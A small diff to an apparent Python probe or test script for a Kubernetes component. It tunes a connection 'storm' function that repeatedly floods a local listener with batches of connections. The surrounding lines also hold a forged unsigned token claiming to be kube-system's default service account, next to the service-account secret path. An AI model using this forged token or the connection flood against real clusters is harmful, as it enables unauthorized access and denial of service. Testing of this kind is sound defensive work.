@@ -22,6 +22,7 @@ API = ("10.96.0.1", 443)
 ACCOUNT = Path("/var/run/secrets/kubernetes.io/serviceaccount")
 PATIENCE = 10
 HALF_OPEN = 3000
+STORM = 700
 FORGED = "eyJhbGciOiJub25lIn0.eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQ6a3ViZS1zeXN0ZW06ZGVmYXVsdCJ9.AAAA"
 """A token without a signature that says: kube-system's default service account."""
 
@@ -236,10 +237,10 @@ def patient():
 
 def storm():
     """Connect to the listener itself again and again."""
-    connected, said, over = 0, b"", time.monotonic() + 2
+    connected, said, over = 0, b"", time.monotonic() + PATIENCE
     (port,) = listening()
     with suppress(ConnectionRefusedError):  # it listens no more
-        while time.monotonic() < over:
+        while connected < STORM and time.monotonic() < over:
             with ExitStack() as stack:
                 opened = [stack.enter_context(socket.create_connection(("127.0.0.1", port), 5)) for _ in range(100)]
                 connected += len(opened)
